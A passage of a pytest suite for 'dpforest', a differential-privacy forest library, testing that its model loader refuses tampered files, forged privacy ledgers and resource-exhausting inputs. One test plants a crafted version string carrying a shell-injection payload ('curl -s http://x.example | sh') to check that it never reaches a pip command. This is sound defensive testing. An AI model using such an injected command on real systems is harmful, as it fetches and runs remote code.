    def older(doc):
        doc["payload"]["dpforest_version"] = "0.5.0"
        doc["payload"]["fitted"]["fitted_with_version_"] = "0.5.0"
    _rewrite(path, older, True)
    with pytest.warns(InconsistentVersionWarning):
        loaded = load_model(path)
    assert loaded.fitted_with_version_ == "0.5.0"
    again = save_model(loaded, tmp_path / "again.json")
    reloaded = load_model(again)
    assert reloaded.fitted_with_version_ == "0.5.0"
    assert pickle.loads(pickle.dumps(reloaded)).fitted_with_version_ == "0.5.0"
    st = release_statement(reloaded, again)
    assert (st["written_by"], st["fitted_with"]) == (d.__version__, "0.5.0")
    assert f"written by dpforest {d.__version__}, fitted by dpforest 0.5.0." in statement_markdown(st)


def test_a_file_of_a_later_version_says_to_upgrade_not_to_refit(tmp_path, fitted):
    """Whoever serves a model has no records to refit on: a file written by a later dpforest
    names the version to install; an earlier one still says refit."""
    path = save_model(fitted[2][0], tmp_path / "m.json")
    later = ".".join(str(int(p) + 1) if i == 0 else "0"
                     for i, p in enumerate(d.__version__.split(".")[:3]))

    def newer(doc):
        doc["payload"]["dpforest_version"] = later
    _rewrite(path, newer, True)
    with pytest.warns(InconsistentVersionWarning) as rec:
        load_model(path)
    text = str(rec[0].message)
    assert f"install dpforest {later} or later to serve it (pip install 'dpforest>={later}')" in text
    assert "refit it with" not in text
    # the advice is built from the version's numbers, never the file's text (a crafted
    # version cannot put a shell command into the pip line)

    def crafted(doc):
        doc["payload"]["dpforest_version"] = f"{later}' && curl -s http://x.example | sh && echo '"
    _rewrite(path, crafted, True)
    with pytest.warns(InconsistentVersionWarning) as rec:
        load_model(path)
    assert f"(pip install 'dpforest>={later}')" in str(rec[0].message)


def test_refused_file_of_another_version_still_refused_without_warning(tmp_path, fitted):
    path = save_model(fitted[2][0], tmp_path / "m.json")

    def other(doc):
        doc["payload"]["dpforest_version"] = "9.9"
        doc["payload"]["params"]["bogus"] = 1
    _rewrite(path, other, True)
    with warnings.catch_warnings():
        warnings.simplefilter("error")
        with pytest.raises(ModelFileError, match=r"no parameters.*written by dpforest 9\.9"):
            load_model(path)
    # an edited version without a fixed checksum: refused as before
    _rewrite(path, lambda doc: doc["payload"].__setitem__("dpforest_version", "9.8"))
    with warnings.catch_warnings():
        warnings.simplefilter("error")
        with pytest.raises(ModelFileError, match="sha256"):
            load_model(path)


def _rehashed(path, edit):
    """Edit a saved model's payload and recompute its checksum, as docs/cli.md describes: the
    file then passes the sha256 check, so only the loader's own cross-checks can refuse it."""
    doc = json.loads(path.read_text())
    edit(doc["payload"])
    doc["sha256"] = hashlib.sha256(_canonical(doc["payload"])).hexdigest()
    path.write_text(json.dumps(doc))


def test_a_rehashed_file_whose_privacy_records_disagree_is_refused(tmp_path, fitted):
    """A checker reads ε from the file: its ledger must compose within its budget, equal the
    recorded epsilon_spent and the ε the estimator's recipe spends at its epsilon parameter,
    and a second copy of the ledger (a fitted attribute in files of earlier versions) must
    equal it."""
    model = fitted[2][1]                       # RFDP-OOB: many ledger entries
    path = save_model(model, tmp_path / "ok.json")
    assert load_model(path).ledger_.epsilon == pytest.approx(1.0)

    def budget(p):
        p["ledger"]["budget"] = 0.1

    def spent(p):
        p["epsilon_spent"] = 0.1

    def dropped(p):                           # the split selections' entries removed
        p["ledger"]["entries"] = [e for e in p["ledger"]["entries"] if "split" not in e[0]]

    def scaled(p):                            # every ε a tenth, budget and spent to match
        for e in p["ledger"]["entries"]:
            e[1] /= 10
        p["ledger"]["budget"], p["epsilon_spent"] = 0.1, 0.1

    def epsilon_param(p):
        p["params"]["epsilon"] = 0.5
        p["epsilon_spent"] = 0.5

    # (dropping charges that leave the composed total as it is -- RFDP-OOB's split selections,
    # in parallel with its leaf counts -- is an edit only a second copy of the ledger caught, and
    # only when the editor left that copy alone: files no longer write it, and the checksum is
    # no proof against a deliberate edit, docs/cli.md)
    for edit, match in ((budget, "above its own budget"), (spent, "epsilon_spent disagrees"),
                        (scaled, "not the 1 its parameters spend"),
                        (epsilon_param, "not the 0.5 its parameters spend|epsilon_spent")):
        p = tmp_path / f"{edit.__name__}.json"
        p.write_bytes(path.read_bytes())
        _rehashed(p, edit)
        with pytest.raises(ModelFileError, match=match):
            load_model(p)
    # the ledger is written once; a file of an earlier version also held a copy as a fitted
    # attribute: it loads, and a copy that differs is refused
    assert "ledger_" not in json.loads(path.read_text())["payload"]["fitted"]
    for entries, refused in ((None, False), (1, True)):
        p = tmp_path / f"copy{entries}.json"
        p.write_bytes(path.read_bytes())

        def copy(pl):
            pl["fitted"]["ledger_"] = {"__ledger__": json.loads(json.dumps(pl["ledger"]))}
            if entries is not None:
                led = pl["fitted"]["ledger_"]["__ledger__"]
                led["entries"] = led["entries"][:entries]
        _rehashed(p, copy)
        if refused:
            with pytest.raises(ModelFileError, match="two copies of the ledger differ"):
                load_model(p)
        else:
            assert load_model(p).ledger_.to_dict() == model.ledger_.to_dict()


def test_a_rehashed_ledger_budget_left_unspent_or_a_size_declared_twice_is_refused(tmp_path, fitted):
    """Every fit spends its ledger's budget whole, and a fit given a public size books no noisy
    one: an edited budget of 100 was shown as "composed epsilon = 1 (budget 100)", and an
    n_samples added beside the ledger's noisy size as a public size the fit never had."""
    model = fitted[2][1]
    path = save_model(model, tmp_path / "ok.json")

    def budget(p):
        p["ledger"]["budget"] = 100.0

    _rehashed(path, budget)
    with pytest.raises(ModelFileError, match="below its own budget 100"):
        load_model(path)
    X, y, _ = fitted
    for declared, refused in ((None, True), (len(y), False)):
        m = d.DPForestClassifier(1.0, model.schema, n_samples=declared, random_state=0,
                                 progress=False).fit(X, y)
        assert any(e.what.startswith("dataset size") for e in m.ledger_.entries) is refused
        p = save_model(m, tmp_path / f"size{declared}.json")
        assert load_model(p).n_samples == declared
        _rehashed(p, lambda pl: pl["params"].update(n_samples=123456))
        if refused:
            with pytest.raises(ModelFileError, match="public size .n_samples. while its ledger"):
                load_model(p)
        else:
            assert load_model(p).n_samples == 123456    # a declared size edited: not detectable


@pytest.mark.parametrize("name, value", [("max_depth", "deep"), ("max_depth", -3),
                                         ("max_depth", 2.5), ("random_state", "abc")])
def test_a_rehashed_parameter_no_fit_accepts_is_refused(tmp_path, fitted, name, value):
    """Each parameter as the estimator's own fit checks it before reading a record: an edited
    max_depth of "deep" loaded and `show` printed it as the model's setting."""
    path = save_model(fitted[2][0], tmp_path / "m.json")
    assert load_model(path).max_depth == 3
    _rehashed(path, lambda pl: pl["params"].update({name: value}))
    with pytest.raises(ModelFileError,
                       match=f"{name} is not one a fit accepts|not ones a fit accepts.*{name}"):
        load_model(path)


def test_a_file_of_another_version_keeps_the_settings_its_fit_accepted(tmp_path, fitted):
    """A fit of an earlier version accepted settings this version's checks refuse (an SNR
    forest's sum_unclipped=0): such a file is not called edited; the same setting in a file
    of this version is."""
    X, y, models = fitted
    model = d.SNRForestClassifier(1.0, models[0].schema, random_state=0, progress=False).fit(X, y)
    for version, refused in ((d.__version__, True), ("0.6.40", False)):
        path = save_model(model, tmp_path / f"{version}.json")
        _rehashed(path, lambda pl: pl["params"].update(sum_unclipped=0))
        _as_written_by(path, version)
        if refused:
            with pytest.raises(ModelFileError, match="sum_unclipped"):
                load_model(path)
        else:
            with pytest.warns(InconsistentVersionWarning):
                loaded = load_model(path)
            np.testing.assert_array_equal(loaded.predict_proba(X), model.predict_proba(X))


@pytest.mark.parametrize("edit", ["short", "mask-of-one", "text", "no-mask", "mask-of-ints"])
@pytest.mark.parametrize("regime", ["snr", "random"])
def test_an_edited_snr_record_with_a_recomputed_checksum_is_refused(tmp_path, fitted, edit, regime):
    """An SNR forest's per-tree records (its pruned nodes, which predict walks around) as its
    fit writes them: an edited list loaded and then failed at predict with Python's own
    errors, and a mask of one entry broadcast over the tree and changed predictions silently."""
    X, y, models = fitted
    est = (d.SNRForestClassifier(1.0, models[0].schema, random_state=0, progress=False)
           if regime == "snr" else
           d.DPForestClassifier(1.0, models[0].schema, regime="random", random_state=0,
                                progress=False))
    model = est.fit(X, y)
    path = save_model(model, tmp_path / "m.json")
    np.testing.assert_array_equal(load_model(path).predict_proba(X), model.predict_proba(X))

    def change(fitted_):
        info = fitted_["snr_info_"]
        if edit == "short":
            info.pop()
        elif edit == "mask-of-one":
            info[0]["removed"] = {"__ndarray__": [True], "dtype": "|b1", "shape": [1]}
        elif edit == "text":
            fitted_["snr_info_"] = "x"
        elif edit == "no-mask":
            del info[0]["removed"]
        else:
            n = info[0]["removed"]["shape"][0]
            info[0]["removed"] = {"__ndarray__": [0] * n, "dtype": "<i8", "shape": [n]}

    if edit == "short" and len(model.trees_) == 1:
        pytest.skip("one tree: shortening its list is the text edit's empty list")
    _rehashed(path, lambda pl: change(pl["fitted"]))
    with pytest.raises(ModelFileError, match="snr_info_"):
        load_model(path)


def test_show_states_a_models_ledger_and_warns_of_a_noiseless_one(tmp_path, fitted, capsys):
    """`dpforest show` prints the estimator, the composed ε and its ledger and the schema's
    columns; a model fitted in the test-only noiseless mode is flagged by every command that
    loads it."""
    from dpforest.cli import main
    from dpforest.privacy.mechanisms import _noiseless

    X, y, models = fitted
    path = save_model(models[0], tmp_path / "m.json.gz")
    assert main(["show", str(path)]) == 0
    out, err = capsys.readouterr()
    assert "composed epsilon = 1 (budget 1)" in out and "DiffPRFsClassifier" in out
    assert all(f"  {n}:" in out for n in models[0].schema_.feature_names) and not err
    with _noiseless():
        quiet = d.DiffPRFsClassifier(1.0, models[0].schema, n_estimators=2, max_depth=2,
                                     random_state=0, progress=False).fit(X, y)
    path = save_model(quiet, tmp_path / "quiet.json.gz")
    assert main(["show", str(path)]) == 0
    out, err = capsys.readouterr()
    assert "NOISELESS" in out and "NOT private" in err


@pytest.mark.parametrize("edit, match", [
    (lambda f: f.update(tree_weights_={"__ndarray__": [float("nan")] * len(f["trees_"]),
                                       "dtype": "<f8", "shape": [len(f["trees_"])]}), "tree_weights_"),
    (lambda f: f.update(tree_weights_={"__ndarray__": [-1.0] * len(f["trees_"]),
                                       "dtype": "<f8", "shape": [len(f["trees_"])]}), "tree_weights_"),
    (lambda f: f.update(tree_weights_={"__ndarray__": [1.0], "dtype": "<f8", "shape": [1]}), "tree_weights_"),
    (lambda f: f["trees_"][0]["__flattree__"].update(route_width=1 << 20), "inconsistent"),
    # a split node whose feature is below -1 (a leaf's mark) read as a leaf; an infinite count
    # passed as finite (a walkthrough's edits)
    (lambda f: f["trees_"][0]["__flattree__"]["feature"].__setitem__(0, -5), "inconsistent"),
    (lambda f: f["trees_"][0]["__flattree__"]["counts"][-1].__setitem__(0, float("inf")),
     "inconsistent"),
], ids=["nan-weight", "negative-weight", "weights-short", "route-too-wide", "feature-below-leaf",
        "infinite-count"])
def test_edited_votes_and_routes_with_a_recomputed_checksum_are_refused(tmp_path, fitted, edit, match):
    """A security walkthrough's crafted files: a NaN or negative vote weight (wrong predictions
    with exit 0), too few weights, a route row far wider than any feature (gigabytes at predict)."""
    X, y, models = fitted
    model = next(m for m in models if len(m.trees_) > 1)
    path = save_model(model, tmp_path / "m.json")
    _rehashed(path, lambda payload: edit(payload["fitted"]))
    with pytest.raises(ModelFileError, match=match):
        load_model(path)


def test_text_arrays_take_the_width_of_their_texts():
    """A declared '<U100000000' dtype would take 400 MB a row; the texts decide the width."""
    from dpforest.io import _dec

    arr = _dec({"__ndarray__": ["x", "yz"], "dtype": "<U100000000", "shape": [2]})
    assert arr.dtype == np.dtype("<U2") and arr.tolist() == ["x", "yz"]


def test_a_negative_ledger_charge_is_refused(tmp_path, fitted):
    X, y, models = fitted
    path = save_model(models[0], tmp_path / "m.json")

    def forge(payload):
        for led in (payload.get("ledger"), payload["fitted"].get("ledger_")):
            if led is not None:
                (led.get("__ledger__") or led)["entries"].append(["forged", -0.5, "x", None, None, None, []])
    _rehashed(path, forge)
    with pytest.raises(ModelFileError, match="negative"):
        load_model(path)


def test_leaf_counts_epsilon_round_trips_and_older_files_fall_back(tmp_path):
    """The grower records each node's counts ε (a leaf that drew "no split" carries less than
    its path share); a model file keeps it, a file without it (written before it was kept)
    reads the path arithmetic, and a non-finite one is refused."""
    X, y, schema = make_mixed(3000)
    m = d.DPForestClassifier(2.0, schema, random_state=0, progress=False).fit(X, y)
    path = save_model(m, tmp_path / "m.json")
    m2 = load_model(path)
    np.testing.assert_array_equal(m2.trees_[0].count_epsilon, m.trees_[0].count_epsilon)
    np.testing.assert_array_equal(m2.predict_proba(X), m.predict_proba(X))

    def drop(doc):
        for t in doc["payload"]["fitted"]["trees_"]:
            t["__flattree__"].pop("count_epsilon")
    _rewrite(path, drop, fix_checksum=True)
    old = load_model(path)
    assert old.trees_[0].count_epsilon is None
    np.testing.assert_array_equal(old.trees_[0].counts_epsilon(), m.trees_[0].own_epsilon())

    path = save_model(m, tmp_path / "n.json")

    def poison(doc):
        doc["payload"]["fitted"]["trees_"][0]["__flattree__"]["count_epsilon"][0] = -1.0
    _rewrite(path, poison, fix_checksum=True)
    with pytest.raises(ModelFileError, match="inconsistent"):
        load_model(path)
    # a positive ε whose noise scale 1/ε overflows made predict_proba NaN: refused too
    path = save_model(m, tmp_path / "t.json")

    def tiny(doc):
        ce = doc["payload"]["fitted"]["trees_"][0]["__flattree__"]["count_epsilon"]
        ce[next(i for i, v in enumerate(ce) if v > 0)] = 1e-320
    _rewrite(path, tiny, fix_checksum=True)
    with pytest.raises(ModelFileError, match="inconsistent"):
        load_model(path)


def test_a_pickle_records_its_version_and_warns_in_another(monkeypatch):
    import pickle

    X, y, schema = make_mixed(300)
    m = d.DPForestClassifier(1.0, schema, random_state=0, progress=False).fit(X, y)
    blob = pickle.dumps(m)
    with warnings.catch_warnings():
        warnings.simplefilter("error")
        back = pickle.loads(blob)                      # same version: silent
    np.testing.assert_array_equal(back.predict_proba(X), m.predict_proba(X))
    assert not hasattr(back, "_dpforest_version")
    monkeypatch.setattr(d, "__version__", "999.0")
    with pytest.warns(InconsistentVersionWarning, match="a pickled dpforest model was written by "
                                                         "dpforest .*; this is dpforest 999.0") as w:
        pickle.loads(blob)
    assert w[0].message.path is None and w[0].message.current_version == "999.0"
    # the advice to refit says what a refit costs
    assert "spends a privacy budget again" in str(w[0].message)


def test_a_missing_dependency_is_not_called_a_malformed_file(tmp_path, fitted, monkeypatch):
    path = save_model(fitted[2][0], tmp_path / "m.json")
    import dpforest.io as dio

    def missing(*a, **k):
        raise ModuleNotFoundError("No module named 'opendp.prelude'")
    monkeypatch.setattr(dio.Ledger, "from_dict", staticmethod(missing))
    with pytest.raises(ModuleNotFoundError, match="opendp"):
        load_model(path)


def test_a_multiway_split_over_more_than_32767_codes_routes_and_saves_right():
    """Route rows hold child slots up to 65,535 (a feature may have 2^16 codes): a split of
    every one of 40,000 codes sends code k to child k, in memory, packed for predict and
    through a model file's dict (signed 16-bit rows wrapped past 32,767)."""
    from dpforest.tree.model import FlatTree, PackedForest

    K = 40_000
    n = K + 1
    feature = np.r_[0, np.full(K, -1)]
    child_start = np.r_[1, np.full(K, -1)]
    rows = np.vstack([np.zeros(K, dtype=np.int64), np.arange(K)])      # leaves' row, the root's
    t = FlatTree(feature, rows, child_start, np.zeros((n, 2)), np.r_[0, np.ones(K, int)],
                 np.ones(n), np.r_[1, np.zeros(K, int)])
    codes = np.array([[0], [32_767], [32_768], [K - 1]])
    np.testing.assert_array_equal(t.apply(codes), 1 + codes[:, 0])
    back = FlatTree.from_dict(json.loads(json.dumps(t.to_dict())))
    np.testing.assert_array_equal(back.apply(codes), 1 + codes[:, 0])
    table = np.zeros((n, 2))
    table[1 + codes[:, 0], 1] = 1.0                 # only the four records' leaves vote class 1
    out = np.zeros((len(codes), 2))
    PackedForest([t], [table]).accumulate(codes, out)
    np.testing.assert_array_equal(out[:, 1], 1.0)


def test_a_forest_of_uneven_trees_is_packed_in_groups_not_padded_to_its_largest():
    """Padding every tree to the largest one asks for trees x largest cells (a crafted file of
    1,000 small trees beside one of 200,000 nodes asked for 8 GB at predict): trees of very
    different sizes are packed in groups, whose padded cells stay near the trees' own, and the
    sums are the trees' own leaf values."""
    from dpforest.tree.model import FlatTree, PackedForest

    def stump(K):
        n = K + 1
        rows = np.vstack([np.zeros(K, dtype=np.int64), np.arange(K) % 7])
        return FlatTree(np.r_[0, np.full(K, -1)], rows, np.r_[1, np.full(K, -1)],
                        np.zeros((n, 2)), np.r_[0, np.ones(K, int)], np.ones(n),
                        np.r_[1, np.zeros(K, int)])

    rng = np.random.default_rng(0)
    trees = [stump(7) for _ in range(300)] + [stump(5000)] + [stump(400) for _ in range(20)]
    tables = [rng.random((t.n_nodes, 2)) for t in trees]
    forest = PackedForest(trees, tables)
    padded = sum(p.table.shape[0] * p.table.shape[1] for p in forest.packs)
    own = sum(t.n_nodes for t in trees)
    assert len(forest.packs) >= 3 and padded <= 3 * own < len(trees) * 5001
    codes = np.arange(7)[:, None] % 7
    out = np.zeros((7, 2))
    forest.accumulate(codes, out)
    expected = sum(tab[t.apply(codes)] for t, tab in zip(trees, tables))
    np.testing.assert_allclose(out, expected, rtol=1e-12)
    # trees of similar sizes stay one pack (one compiled pass per row chunk)
    assert len(PackedForest(trees[:300], tables[:300]).packs) == 1


def test_load_model_reads_only_regular_files(tmp_path):
    """A pipe would block until a writer came and a device reports size 0 and never ends
    (/dev/zero read until MemoryError): only a regular file is read."""
    import os

    for target in (tmp_path, "/dev/zero"):
        if os.path.exists(target):
            with pytest.raises(ModelFileError, match="not a regular file"):
                load_model(target)
    fifo = tmp_path / "model.json"
    os.mkfifo(fifo)
    with pytest.raises(ModelFileError, match="not a regular file"):
        load_model(fifo)


# ----------------------------------------------------------------------------- trees' ε vs the ledger
#: (estimator class, parameters) of every estimator a model file may name, in the variants whose
#: trees' ε relate differently to their ledger: one tree; trees on disjoint partitions (each up
#: to the whole ε); trees on shared records or bootstraps (their ε adds up); random trees (0 at
#: the free splits); boosting rounds; label leaves; the paper accountings (a ledger of the true ε,
#: ∞ for an exact read)
TREE_EPSILON_FITS = [
    ("DPForestClassifier", {}),
    ("DPForestClassifier", {"n_estimators": 3}),
    ("DPForestClassifier", {"n_estimators": 3, "leaf_release": "label"}),
    ("DPForestClassifier", {"leaf_release": "label"}),
    ("DPForestClassifier", {"leaf_release": "counts", "numeric_grid": "uniform"}),
    ("DPForestClassifier", {"regime": "random"}),
    ("DPForestClassifier", {"n_samples": 300, "categorical_split": "mixed", "max_depth": 3,
                            "epsilon": 20.0}),
    ("DiffPRFsClassifier", {"n_estimators": 4, "max_depth": 3}),
    ("DiffPRFsClassifier", {"n_estimators": 4, "max_depth": 3, "sampling": "partition"}),
    ("DiffPRFsClassifier", {"n_estimators": 4, "max_depth": 3, "sampling": "none"}),
    ("RFDPOOBClassifier", {"n_estimators": 6, "max_depth": 3}),
    ("RFDPOOBClassifier", {"n_estimators": 6, "max_depth": 3, "accounting": "paper"}),
    ("OOBBudgetForestClassifier", {"n_estimators": 4, "max_depth": 3}),
    ("OOBBudgetForestClassifier", {"n_estimators": 4, "max_depth": 3, "accounting": "paper"}),
    ("OOBBudgetForestClassifier", {"n_estimators": 4, "max_depth": 3, "scouting": "partition",
                                   "sampling": "none"}),
    ("DPRFClassifier", {"n_estimators": 4, "max_depth": 3}),
    ("DPRFClassifier", {"n_estimators": 4, "max_depth": 3, "accounting": "paper"}),
    ("DPRFClassifier", {"n_estimators": 4, "max_depth": 3, "sampling": "partition", "n_max": 1000}),
    ("SNRForestClassifier", {}),
    ("SNRForestClassifier", {"accounting": "paper"}),
    ("SNRForestClassifier", {"n_samples": 300, "epsilon": 5.0}),
    ("PrivateRDTClassifier", {"n_estimators": 10}),
    ("CRFsDPClassifier", {"n_estimators": 4, "max_depth": 3}),
    ("CRFsDPClassifier", {"n_estimators": 4, "max_depth": 3, "n_partitions": 3}),
    ("DPBoostingClassifier", {"n_estimators": 5}),
    ("DPBoostingClassifier", {"max_depth": 2}),
]


@pytest.fixture(scope="module")
def small_mixed():
    return make_mixed(300)


def _fit_named(name, params, data):
    from dpforest.io import estimator_class

    X, y, schema = data
    params = dict(params)
    eps = params.pop("epsilon", 1.0)
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")          # constant-model and few-rounds warnings
        return estimator_class(name)(eps, schema, random_state=0, progress=False, **params).fit(X, y)


def _tree_bounds_hold(model) -> bool:
    """The two bounds load_model checks, computed here from the fitted model itself."""
    from dpforest.io import _tree_spend

    total = model.ledger_.epsilon * (1 + 1e-9)
    spends = [_tree_spend(t) for t in model.trees_]
    shared = not any(e.scope.partition is not None for e in model.ledger_.entries)
    return max(spends) <= total and (not shared or sum(spends) <= total)


def test_the_tree_epsilon_fits_cover_every_estimator_class():
    from dpforest.io import ESTIMATOR_CLASSES

    assert set(ESTIMATOR_CLASSES) == {name for name, _ in TREE_EPSILON_FITS}


@pytest.mark.parametrize("name, params", TREE_EPSILON_FITS,
                         ids=[f"{n}-{'-'.join(f'{k}={v}' for k, v in p.items()) or 'defaults'}"
                              for n, p in TREE_EPSILON_FITS])
def test_every_fit_records_no_more_tree_epsilon_than_its_ledger(tmp_path, small_mixed, name, params):
    """No tree of a fitted model records more ε than its ledger composes, and where the ledger
    names no partition (the trees read the same records) not even all trees together: true of
    every estimator and variant, so load_model can refuse a file where it is not."""
    from dpforest.io import _tree_spend

    m = _fit_named(name, params, small_mixed)
    assert _tree_bounds_hold(m)
    m2 = load_model(save_model(m, tmp_path / "m.json"))
    assert [_tree_spend(t) for t in m2.trees_] == [_tree_spend(t) for t in m.trees_]
    if all(e.scope.partition is None for e in m.ledger_.entries) and np.isfinite(m.ledger_.epsilon):
        # shared records: the sum is the bound that binds, and fit leaves little slack under it
        assert sum(_tree_spend(t) for t in m.trees_) >= 0.75 * m.ledger_.epsilon


def test_noiseless_and_selected_models_record_no_more_tree_epsilon_than_their_ledger(tmp_path, small_mixed, capsys):
    """The test-only noiseless mode books the same charges; a model selector's chosen model
    carries the selection's whole ledger (its fit folded into one entry of its part)."""
    from dpforest.io import _tree_spend
    from dpforest.model_selection import PrivateModelSelector
    from dpforest.privacy.mechanisms import _noiseless

    X, y, schema = small_mixed
    with _noiseless():
        m = _fit_named("DiffPRFsClassifier", {"n_estimators": 4, "max_depth": 3}, small_mixed)
    assert m.ledger_.noiseless and _tree_bounds_hold(m)
    load_model(save_model(m, tmp_path / "n.json"))
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        sel = PrivateModelSelector([d.DPForestClassifier(schema=schema, n_estimators=3, progress=False),
                                    d.DPForestClassifier(schema=schema, n_estimators=3,
                                                         leaf_release="label", progress=False)],
                                   1.0, random_state=0).fit(X, y)
    w = sel.best_estimator_
    assert _tree_bounds_hold(w)
    # three partition trees at about the whole ε each, under a ledger that names the
    # selection's parts but not the trees' partitions: why the sum is only checked where no
    # entry names a partition
    assert sum(_tree_spend(t) for t in w.trees_) > 2 * w.ledger_.epsilon
    load_model(save_model(sel.best_estimator_, tmp_path / "s.json"))
    # refitted on all records with a share of ε: its epsilon is the share, its ledger the
    # whole selection's, which reads more than the parameters spend (never less): it loads
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        sel = PrivateModelSelector([d.DPForestClassifier(schema=schema, progress=False),
                                    d.SNRForestClassifier(schema=schema, progress=False)],
                                   1.0, refit_share=0.5, random_state=0).fit(X, y)
    w = sel.best_estimator_
    assert w.epsilon == pytest.approx(0.5) and w.ledger_.epsilon == pytest.approx(1.0)
    assert w.selection_epsilon_ == pytest.approx(1.0)
    path = save_model(w, tmp_path / "r.json")
    assert load_model(path).ledger_.epsilon == pytest.approx(1.0)
    from dpforest.cli import main

    assert main(["show", str(path)]) == 0
    assert "the model a private model selection chose" in capsys.readouterr().out

    # the marker must agree with the ledger; without it the ledger must equal what the
    # parameters spend (an ordinary fit's epsilon edited down is refused)
    def marker(p):
        p["fitted"]["selection_epsilon_"] = 0.5

    def unmarked(p):
        del p["fitted"]["selection_epsilon_"]

    # an ordinary fit's file given the marker and a smaller epsilon: its ledger holds no
    # selection's parts, so the marker is refused
    plain = save_model(d.DPForestClassifier(2.0, schema, progress=False).fit(X, y), tmp_path / "p.json")

    def disguised(p):
        p["params"]["epsilon"] = 0.1
        p["fitted"]["selection_epsilon_"] = p["epsilon_spent"]

    q = tmp_path / "disguised.json"
    q.write_bytes(plain.read_bytes())
    _rehashed(q, disguised)
    with pytest.raises(ModelFileError, match="selection_epsilon_ disagrees"):
        load_model(q)
    for edit, match in ((marker, "selection_epsilon_ disagrees"), (unmarked, "its parameters spend")):
        q = tmp_path / f"{edit.__name__}.json"
        q.write_bytes(path.read_bytes())
        _rehashed(q, edit)
        with pytest.raises(ModelFileError, match=match):
            load_model(q)


def _ledger_scaled_down(payload, factor=10.0):
    """The edit a tampered file needs to show a smaller ε and still agree with itself: every
    ledger charge, its budget (a paper's accounting: its stated ε), the ``epsilon`` parameter,
    ``epsilon_spent`` and the fitted ledger's copy divided by ``factor`` -- the trees left as
    grown."""
    copy = payload["fitted"].get("ledger_")        # (files of earlier versions held a copy)
    for led in (payload["ledger"], None if copy is None else copy["__ledger__"]):
        if led is None:
            continue
        for e in led["entries"]:
            e[1] /= factor
        if led["budget"] is not None:
            led["budget"] /= factor
        if led.get("stated_epsilon") is not None:      # a paper's accounting: the ε it was given
            led["stated_epsilon"] /= factor
    payload["params"]["epsilon"] /= factor
    payload["epsilon_spent"] /= factor


@pytest.mark.parametrize("name, params, refusal", [
    ("DPForestClassifier", {}, "tree 0 records more epsilon"),
    ("DPForestClassifier", {"n_estimators": 3}, r"tree \d records more epsilon"),
    ("CRFsDPClassifier", {"n_estimators": 4, "max_depth": 3}, r"tree \d records more epsilon"),
    ("OOBBudgetForestClassifier", {"n_estimators": 4, "max_depth": 3, "scouting": "partition"},
     r"tree \d records more epsilon"),
    ("DPRFClassifier", {"n_estimators": 4, "max_depth": 3, "accounting": "paper"},
     r"tree \d records more epsilon"),
    # ten trees on the same records at ε/10 each: no tree alone records more than the edited
    # ledger's ε/10, all ten together do
    ("PrivateRDTClassifier", {"n_estimators": 10}, "its trees record more epsilon"),
    ("DPBoostingClassifier", {"n_estimators": 10}, "its trees record more epsilon"),
    ("RFDPOOBClassifier", {"n_estimators": 10, "max_depth": 3}, "its trees record more epsilon"),
])
def test_a_ledger_edited_below_its_trees_epsilon_is_refused(tmp_path, small_mixed, name, params, refusal):
    """Ledger, epsilon, epsilon_spent and the ledger's copy rescaled to a tenth consistently and
    the checksum recomputed: the file agrees with itself, but its trees still record the ε
    they were grown with, so it is refused -- naming the tree, and no record's values."""
    m = _fit_named(name, params, small_mixed)
    path = save_model(m, tmp_path / "m.json")
    _rehashed(path, _ledger_scaled_down)
    with pytest.raises(ModelFileError, match=refusal) as info:
        load_model(path)
    message = str(info.value)
    assert "than its ledger composes" in message and "edited" in message
    X = small_mixed[0]
    for value in ("red", "green", "blue", f"{X['age'].iloc[0]:g}"):
        assert value not in message
    if refusal == "its trees record more epsilon":
        # one zero-epsilon entry naming a partition added to the scaled ledger switched the
        # summed bound off (an audit's edit); a forest whose recipe names none keeps it
        path = save_model(m, tmp_path / "p.json")

        def partitioned(payload):
            _ledger_scaled_down(payload)
            payload["ledger"]["entries"].append(["noop", 0.0, "laplace", "part 0", None, None, []])
        _rehashed(path, partitioned)
        with pytest.raises(ModelFileError, match=refusal):
            load_model(path)


def test_tree_epsilon_check_reads_files_without_counts_epsilon(tmp_path, small_mixed):
    """Every model file version wrote each node's ε (a tree without it is malformed); files
    written before count_epsilon was kept lack that one, and are checked on the path totals."""
    m = _fit_named("DPForestClassifier", {"n_estimators": 3}, small_mixed)
    path = save_model(m, tmp_path / "m.json")

    def drop(doc):
        for t in doc["payload"]["fitted"]["trees_"]:
            t["__flattree__"].pop("count_epsilon")
    _rewrite(path, drop, fix_checksum=True)
    assert load_model(path).trees_[0].count_epsilon is None
    _rehashed(path, _ledger_scaled_down)
    with pytest.raises(ModelFileError, match=r"tree \d records more epsilon"):
        load_model(path)

    path = save_model(m, tmp_path / "n.json")

    def no_epsilon(doc):
        doc["payload"]["fitted"]["trees_"][0]["__flattree__"].pop("epsilon")
    _rewrite(path, no_epsilon, fix_checksum=True)
    with pytest.raises(ModelFileError, match="malformed"):
        load_model(path)

    path = save_model(m, tmp_path / "o.json")

    def nan_epsilon(doc):
        doc["payload"]["fitted"]["trees_"][1]["__flattree__"]["epsilon"][0] = float("nan")
    _rewrite(path, nan_epsilon, fix_checksum=True)
    with pytest.raises(ModelFileError, match="tree 1 records a negative or NaN epsilon"):
        load_model(path)


def test_rescaling_the_trees_epsilon_too_still_loads(tmp_path, small_mixed):
    """The limit the module docstring states: the checks compare the file with itself, and the
    checksum is not a signature, so an editor who also rescales every tree's per-node ε (and
    counts' ε) gets a file that loads and reads the smaller ε."""
    m = _fit_named("PrivateRDTClassifier", {"n_estimators": 10}, small_mixed)
    path = save_model(m, tmp_path / "m.json")

    def everything(payload):
        _ledger_scaled_down(payload)
        for t in payload["fitted"]["trees_"]:
            tree = t["__flattree__"]
            for key in ("epsilon", "count_epsilon"):
                if key in tree:
                    assert isinstance(tree[key], list)          # small trees: not packed
                    tree[key] = [v / 10 for v in tree[key]]
    _rehashed(path, everything)
    assert load_model(path).ledger_.epsilon == pytest.approx(0.1)


def test_a_per_person_bound_that_understates_is_refused(tmp_path):
    """fit_per_person records the bound and the guarantee per person; a file edited (and
    re-hashed) to state another ε per person than max_rows x the ledger's, or a malformed
    bound, is refused."""
    from dpforest.contributions import fit_per_person

    rng = np.random.default_rng(0)
    pid = np.repeat(np.arange(100), 3)
    X = pd.DataFrame({"age": rng.uniform(0, 90, len(pid)), "pid": pid})
    y = np.where(X["age"] > 45, "a", "b")
    s = d.Schema([d.Numeric("age", 0, 90)], classes=["a", "b"])
